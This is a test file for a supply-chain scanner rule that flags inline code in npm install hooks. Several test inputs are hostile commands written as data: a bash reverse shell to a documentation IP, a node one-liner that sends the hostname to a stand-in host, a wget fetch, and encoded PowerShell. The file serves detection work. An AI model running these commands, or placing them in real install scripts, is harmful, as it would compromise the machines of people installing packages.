import { describe, expect, it } from 'vitest';
import { packageFacts } from '../rule-test-kit.js';
import { installScriptInlineCode as rule } from './install-script-inline-code.js';

const run = (command: string, hook = 'postinstall') =>
  rule.run(packageFacts({ manifest: { installScripts: { [hook]: command } } }));

describe('install-script-inline-code', () => {
  it.each([
    ['powershell -NoProfile -enc VwByAGkAdABlAA==', 'high', 'high'],
    ['pwsh -EncodedCommand VwByAGkAdABlAA==', 'high', 'high'],
    ['bash -c "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"', 'critical', 'high'],
    [`node -e "require('https').get('https://x.invalid/'+require('os').hostname())"`, 'high', 'medium'],
    [`node -e "require(\\"child_process\\").execSync(\\"id\\")"`, 'high', 'medium'],
    [`python3 -c "import urllib.request; urllib.request.urlopen('http://x.invalid')"`, 'high', 'medium'],
    ['sh -c "wget -q -O- x.invalid/p"', 'high', 'medium'],
    [`node -e "const f = require('./lib/fix'); f.patch(module)"`, 'medium', 'low'],
    [`node -e "if (process.env.CI) process.exit(0)"`, 'medium', 'low'],
    [`node -e "import('https').then((h) => h.get('https://x.invalid'))"`, 'high', 'medium'],
  ])('grades %s as %s/%s', (command, severity, confidence) => {
    expect(run(command)).toMatchObject([{ severity, confidence }]);
  });

  it('reports only the inline part of a chained command', () => {
    const findings = run(`node-gyp rebuild && node -e "eval(process.env.X)"`);
    expect(findings).toHaveLength(1);
    expect(findings[0]?.message).toContain('node -e');
  });

  it.each([
    `node -e "try{require('./postinstall')}catch(e){}"`,
    `node -e "try{require(\\"./postinstall\\")}catch(e){}"`,
    `node -e "if (parseInt(process.versions.node) < 18) { console.error('needs 18'); process.exit(1) }"`,
    `node -e "console.log('thanks for installing')"`,
    `node -e "import('./config/scripts/postinstall.js').catch(() => void 0)"`,
    'sh -c ./configure',
    'node -c lib/index.js',
    'node install.js',
    'node-gyp rebuild',
    'husky',
  ])('is silent for %s', (command) => {
    expect(run(command)).toEqual([]);
  });
});
